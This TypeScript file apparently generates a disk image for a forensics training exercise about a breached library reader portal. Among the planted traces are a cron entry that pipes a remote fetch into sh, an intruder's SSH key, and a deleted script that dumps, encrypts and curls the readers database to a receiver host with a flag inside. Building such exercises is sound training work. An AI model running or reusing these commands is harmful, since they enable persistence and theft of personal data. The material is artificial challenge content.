import { exifOf } from '../../training/make/exif.ts'
import { type Ext2File, ext2DiskOf } from '../../training/make/ext2-disk.ts'
import { jpegOf } from '../../training/make/jpeg.ts'
import { randomOf } from '../../training/make/random.ts'
import {
  databasePassword,
  exfiltration,
  leftBehind,
  login,
  operator,
  script,
  secretsFile,
  server,
  shell,
} from './facts.ts'

const installedAt = new Date('2026-03-12T02:10:00Z')
const changedAt = new Date('2026-08-20T06:31:00Z')

const text = (path: string, lines: readonly string[], more: Partial<Ext2File> = {}): Ext2File => ({
  path: path.slice(1),
  bytes: Buffer.from(`${lines.join('\n')}\n`),
  at: installedAt,
  ...more,
})

/** The system disk, without its programs: settings, homes, the portal, and what was deleted that night. */
export function systemDisk(): Buffer {
  return ext2DiskOf([...settings(), ...home(), ...portal(), ...traces()], {
    label: server.name,
    madeAt: installedAt,
    blocks: 1_024,
    inodes: 128,
  })
}

const settings = () => [
  text('/etc/hostname', [server.name]),
  text('/etc/timezone', ['Etc/UTC']),
  text('/etc/passwd', [
    'root:x:0:0:root:/root:/bin/bash',
    'www-data:x:33:33:www-data:/srv/portal:/usr/sbin/nologin',
    'postgres:x:112:118:PostgreSQL:/var/lib/postgresql:/bin/bash',
    'deploy:x:1002:1002::/home/deploy:/bin/bash',
    'librarian:x:1003:1003::/home/librarian:/bin/bash',
    `${login.account}:x:${server.backupUid}:${server.backupUid}::/home/${login.account}:/bin/bash`,
  ]),
  text('/etc/cron.d/portal-cache', ['15 4 * * * www-data /srv/portal/bin/clear-cache'], { at: changedAt }),
  text('/etc/systemd/system/portal.service', [
    '[Unit]',
    'Description=Reader portal',
    '[Service]',
    'User=www-data',
    'ExecStart=/srv/portal/bin/serve',
    'Restart=always',
  ]),
  text('/usr/local/bin/ping-gateway', ['#!/bin/sh', 'exec ping -c 1 10.8.0.1'], { mode: 0o4755 }),
]

const home = () => {
  const owner = server.backupUid
  return [
    text(`/home/${login.account}/.profile`, ['umask 077', 'PATH=/usr/local/bin:/usr/bin:/bin'], { owner }),
    text(`/home/${login.account}/README`, ['Runs nightly at 19:50 from nas-01. Do not change the key.'], {
      owner,
    }),
  ]
}

function portal(): Ext2File[] {
  const random = randomOf('leaking-server covers')
  const owner = 33
  const cover = (path: string, at: Date): Ext2File => {
    const tone = random.between(60, 160)
    const grey = (column: number, row: number) => tone + ((column * 5 + row * 3) % 60)
    const shot = { model: 'Scanner', takenAt: '2026:11:02 10:00:00', latitude: 0, longitude: 0 }
    return { path: path.slice(1), bytes: jpegOf(160, 240, grey, exifOf(shot)), at, owner }
  }
  const folder = `/srv/portal/public${shell.path.slice(0, shell.path.lastIndexOf('/'))}`
  return [
    text(secretsFile, [
      'PORTAL_ORIGIN=https://readers.lakeside-library.example',
      'DATABASE_URL=postgres://portal@127.0.0.1/portal',
      `DATABASE_PASSWORD=${databasePassword}`,
      'COVERS_TYPES=jpg,png,gif',
    ]),
    text('/srv/portal/bin/clear-cache', ['#!/bin/sh', 'rm -rf /srv/portal/cache/*'], { mode: 0o755 }),
    text('/srv/portal/public/index.php', ['<?php require __DIR__ . "/../app/portal.php";'], {
      at: changedAt,
    }),
    cover(`${folder}/1b07d2.jpg`, new Date(shell.uploadedAt - 9 * 3_600_000)),
    cover(`${folder}/58ce90.jpg`, new Date(shell.uploadedAt - 5 * 3_600_000)),
    {
      path: `srv/portal/public${shell.path}`,
      bytes: Buffer.from(shell.source),
      at: new Date(shell.uploadedAt),
      owner,
    },
    cover(`${folder}/e2a441.jpg`, new Date(shell.uploadedAt + 1_500_000)),
  ]
}

function traces(): Ext2File[] {
  const [owner, at] = [server.backupUid, new Date(leftBehind.at)]
  const { receiver, port } = exfiltration
  return [
    // An old backup copy of an editor: deleted too, months before.
    text('/srv/portal/config/.portal.env.swp', ['DATABASE_PASSWORD=change-me-first'], {
      deletedAt: changedAt,
    }),
    text(leftBehind.cron, [`*/20 * * * * ${login.account} curl -s http://${operator}/t | sh`], { at }),
    text(
      leftBehind.keys,
      [
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ8nightlybackupkeyofthelibrary0000000000000 backup@nas-01',
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKq7keyofsomebodyelsealtogether0000000000000 m@relay-7',
      ],
      { at, owner, mode: 0o600 },
    ),
    text(script.path, exportScript(`http://${receiver}:${port}`), {
      at: new Date(script.writtenAt),
      owner,
      mode: 0o700,
      deletedAt: new Date(script.deletedAt),
    }),
    text('/var/tmp/.cache-index', ['portal 41', 'covers 1290'], { at: changedAt, owner: 33 }),
  ]
}

const exportScript = (receiver: string) => [
  '#!/bin/sh',
  '# one run, then gone',
  'T=$(mktemp -d)',
  'psql -h 127.0.0.1 -U portal -c "\\copy readers to $T/r.csv csv header" portal',
  `openssl enc -aes-256-cbc -pbkdf2 -pass pass:${exfiltration.passphrase} -in $T/r.csv -out $T/r.bin`,
  `split -b ${exfiltration.partBytes} -d $T/r.bin $T/p.`,
  'for p in $T/p.*; do',
  `  until curl -sf --data-binary @$p ${receiver}/in/$(basename $p); do sleep 2; done`,
  'done',
  `# receipt: ${script.flag}`,
  'rm -rf $T "$0"',
]
